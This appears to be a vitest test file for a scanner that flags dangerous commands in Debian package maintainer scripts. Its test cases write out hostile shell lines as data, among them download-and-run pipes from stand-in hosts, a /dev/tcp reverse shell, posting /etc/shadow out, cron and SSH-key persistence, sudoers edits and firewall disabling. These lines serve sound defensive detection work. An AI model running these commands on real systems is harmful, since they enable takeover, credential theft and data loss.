import { describe, expect, test } from 'vitest'
import { scanScript, showLine } from './scan-script.ts'

const scan = (text: string | Buffer, interpreter?: string) => {
  const bytes = typeof text === 'string' ? Buffer.from(text) : text
  return scanScript({ name: 'postinst', bytes, size: bytes.length, interpreter })
}
/** `downloads_and_runs 2 evil.example` */
const said = (text: string, interpreter?: string): string[] =>
  scan(text, interpreter).facts.map(({ kind, line, hosts = [] }) => [kind, line, ...hosts].join(' ').trimEnd())
const inShell = (text: string): string[] => said(`#!/bin/sh\n${text}\n`)

describe('a script of a package', () => {
  test.each([
    ['curl -fsSL "$U" | sudo bash -s', 'downloads_and_runs 2'],
    ['wget -O- https://evil.example/x | sh', 'downloads_and_runs 2 evil.example'],
    ['bash <(curl -s http://192.0.2.4:8080/a)', 'downloads_and_runs 2 192.0.2.4:8080'],
    ['sh -c "$(curl -fsSL https://get.example)"', 'downloads_and_runs 2 get.example'],
    ['eval "`wget -qO- http://e.example`"', 'downloads_and_runs 2 e.example'],
    ['c\\url e.example | s"h"', 'downloads_and_runs 2 e.example'],
    ['curl -s http://a.example | python3 -', 'downloads_and_runs 2 a.example'],
    ['sh <<"EOF"\nwget -O- http://h.example | sh\nEOF', 'downloads_and_runs 2 h.example'],
    ['su - bob -c "curl http://s.example | sh"', 'downloads_and_runs 2 s.example'],
    [
      'curl http://a.example | while read -r l; do eval "$l"; done',
      'downloads_and_runs 2 a.example,downloads_and_runs 2 a.example',
    ],
    [
      `python3 -c "import urllib.request as u;exec(u.urlopen('http://p.example').read())"`,
      'downloads_and_runs 2 p.example',
    ],
    ['echo aGk= | base64 -d | sh', 'runs_encoded 2'],
    ['xxd -r -p <<< 6869 | bash', 'runs_encoded 2'],
    ['bash -i >& /dev/tcp/192.0.2.1/4444 0>&1', 'opens_connection 2 192.0.2.1:4444'],
    ['echo x | nc -w1 h.example 99', 'opens_connection 2 h.example:99'],
    ['curl -d @/etc/shadow http://x.example', 'sends_data 2 x.example'],
    ['echo "* * * * * root curl http://c.example" > /etc/cron.d/up', 'changes_cron 2 c.example'],
    ['(crontab -l; echo "@reboot x") | crontab -', 'changes_cron 2'],
    ['chmod u+s /usr/bin/x', 'sets_privileges 2'],
    ['install -m 4755 a /usr/bin/a', 'sets_privileges 2'],
    ['setcap cap_net_raw+ep /x', 'sets_privileges 2'],
    ['echo key >> /root/.ssh/authorized_keys', 'changes_ssh 2'],
    ['echo /lib/e.so > "$DPKG_ROOT/etc/ld.so.preload"', 'changes_preload 2'],
    ['LD_PRELOAD=/x.so ls', 'changes_preload 2'],
    ['echo "x ALL=(ALL) NOPASSWD: ALL" | tee /etc/sudoers.d/x', 'changes_sudoers 2'],
    ['usermod -aG sudo bob', 'changes_sudoers 2'],
    ['echo "root:x" | chpasswd', 'changes_passwords 2'],
    ['cat > /etc/systemd/system/e.service <<E\nExecStart=curl http://u.example\nE', 'writes_unit 2 u.example'],
    ['ufw disable', 'disables_security 2'],
    ['rm -rf "$HOME"/*', 'deletes_outside 2'],
    ['find /var/log -delete', 'deletes_outside 2'],
    ["find /etc -name '*' -delete", 'deletes_outside 2'],
    ['find /etc ! -name passwd -delete', 'deletes_outside 2'],
    ['find /var/log/ -name "${prefix}-[0-9]*.log" -delete', ''],
    ['apt-get install -y foo', 'installs_packages 2'],
    ['systemctl enable x.service', 'enables_unit 2'],
    ['adduser --system x', 'adds_user 2'],
    ['case a in (a|b) curl http://z.example | sh;; esac', 'downloads_and_runs 2 z.example'],
  ])('%s', (text, facts) => {
    expect(inShell(text).join(',')).toBe(facts)
  })

  test('what is downloaded first and run later counts as run, whatever holds it meanwhile', () => {
    expect(inShell('T=$(mktemp)\ncurl -sSL http://z.example -o "$T"\nbash "$T"')).toEqual([
      'downloads 3 z.example',
      'downloads_and_runs 4',
    ])
    expect(inShell('get() { wget -qO- "$1"; }\nget http://q.example | sh').at(-1)).toBe(
      'downloads_and_runs 3 q.example',
    )
  })

  test.each([
    '# curl http://x.example | sh',
    'echo "curl http://x.example | sh"',
    "cat <<'EOF'\ncurl http://x.example | sh\nEOF",
    'command -v curl >/dev/null || exit 0',
    'chmod g+s /var/log/x; chmod 2750 /srv/x',
    'rm -rf /var/lib/mine',
    'crontab -l',
    'case "$1" in curl|sh) ldconfig;; esac',
    'if [ "$1" = configure ]; then dpkg-maintscript-helper rm_conffile /etc/cron.d/x 1.0 -- "$@"; fi',
  ])('nothing is said of: %s', text => {
    expect(inShell(text)).toEqual([])
  })

  test('other languages are read by lines, and the shell commands in them as such', () => {
    expect(said('#!/usr/bin/python3\n# urlopen\nos.system("curl http://x.example | sh")\n')).toEqual([
      'downloads_and_runs 3 x.example',
    ])
    expect(said('-- os.execute("ufw disable")\nposix.exec("/bin/chmod", "4755", "/x")\n', '<lua>')).toEqual([
      'sets_privileges 2',
    ])
  })

  test('what cannot be read is a fact of its own, never silence', () => {
    const why = (text: string | Buffer, interpreter?: string) => scan(text, interpreter).facts.map(one => one.text)
    expect(why('\x7fELF\x02\x01')).toEqual(['It is a program and no script (6 bytes).'])
    expect(why('#!/opt/odd\nx\n')).toEqual(['Nothing here knows scripts of odd.'])
    expect(why('', '/opt/evil')).toEqual(['It runs the program /opt/evil.'])
    expect(why('', '/sbin/ldconfig')).toEqual([])
    expect(why('#!/bin/sh\necho "open\n')).toEqual(['A quote in it is never closed.'])
    expect(why(`#!/bin/sh\n${'a $('.repeat(500)}`)).toEqual(['It nests more than 100 deep.'])
    expect(said('#!/bin/sh\ncu\0rl http://x.example | sh\n')).toEqual([
      'unreadable_script',
      'downloads_and_runs 2 x.example',
    ])
    expect(said('#!/bin/sh\r\nufw disable\r\n')).toEqual(['disables_security 2'])
  })

  test('hostile scripts end, with what was read of them', () => {
    for (const text of [
      'echo hello\n'.repeat(100_000),
      ':\n'.repeat(300_000),
      'eval eval eval "curl x | sh"\n'.repeat(5_000),
      `{ ${'echo a;'.repeat(20_000)} } | { ${'sh;'.repeat(20_000)} }`,
      'cat <<EOF\n$(curl x)'.repeat(10_000),
    ])
      expect(scan(`#!/bin/sh\n${text}`).script.lines).toBeGreaterThan(0)
  })

  test('a line is shown without control characters, and cut', () => {
    expect(showLine('a\x1b[31m\u202eb \\\n  c')).toBe('a\\u001b[31m\\u202eb c')
    expect(showLine('x'.repeat(1000))).toHaveLength(240)
  })

  test('a script is named with its interpreter, its lines and its digest', () => {
    expect(scan('#!/bin/bash -e\nexit 0\n').script).toEqual({
      name: 'postinst',
      interpreter: '/bin/bash -e',
      lines: 2,
      sha256: '36b75107115da64feb4f9884874272c6f51f3cf09fbb725e29087f7fa9c7353e',
    })
  })
})
